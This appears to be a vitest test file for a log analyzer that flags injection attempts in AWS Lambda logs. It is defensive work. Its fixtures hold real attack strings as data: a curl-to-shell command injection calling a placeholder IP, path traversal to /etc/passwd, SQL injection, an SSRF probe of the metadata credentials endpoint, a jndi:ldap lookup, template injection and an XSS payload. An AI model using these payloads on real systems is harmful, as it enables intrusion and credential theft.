import { describe, expect, it } from 'vitest';
import { injectionHints } from '../../src/analyzers/defs/injectionHints.ts';
import { runAnalyzer } from '../../src/analyzers/run.ts';
import { withMemoryDb } from '../helpers/db.ts';
import { insertRows } from '../helpers/rows.ts';

const ctx = { incidentStart: '2026-03-11T00:00:00.000Z', dataEnd: '2026-03-11T23:00:00.000Z', dataStart: '2026-03-09T00:00:00.000Z', incidentStartFrom: 'option' as const };
let i = 0;
const line = (message: string, kind = 'app') => ({
  function_name: 'orders-api', log_group: '/aws/lambda/orders-api', log_stream: 's', time: `2026-03-11T08:${String(i).padStart(2, '0')}:00Z`,
  message, request_id: `req-${i++}`, kind, source_file: 't', file_id: 1, record_index: i,
});

describe('injection-hints', () => {
  it('names each pattern once per line and ignores benign and platform lines', async () => {
    await withMemoryDb(async (db) => {
      await insertRows(db, 'lambda_log_events', [
        line('2026-03-11T08:00:00Z\treq-0\tINFO\tinput {"sku":"1; curl http://203.0.113.50/x.sh | sh"}'),
        line('INFO input {"file":"../../../../etc/passwd"}'),
        line(`INFO input {"q":"' OR 1=1--"}`),
        line('INFO input {"url":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}'),
        line('INFO input {"name":"{{7*7}}","x":"${jndi:ldap://198.51.100.9/a}"}'),
        line('INFO input {"c":"\\"><img src=x onerror=alert(1)>"}'),
        line('INFO order 42 stored, total 19.99, items=3'),
        line('INFO user typed "union station" and ordered'),
        line('REPORT RequestId: x\tDuration: 1 ms ../../../../etc/passwd', 'report'),
      ]);
      const r = await runAnalyzer(db, injectionHints, ctx);
      expect(r.table.rows.map((x) => [x.request_id, x.pattern])).toEqual([
        ['req-0', 'command-injection'],
        ['req-1', 'path-traversal'],
        ['req-2', 'sql-injection'],
        ['req-3', 'ssrf-metadata'],
        ['req-4', 'template-injection'],
        ['req-5', 'script-injection'],
      ]);
      expect(r.table.rows[0]!.excerpt).toContain('; curl http://203.0.113.50/x.sh | sh');
      expect(String(r.table.rows[0]!.excerpt).length).toBeLessThanOrEqual(240);
    });
  });
});
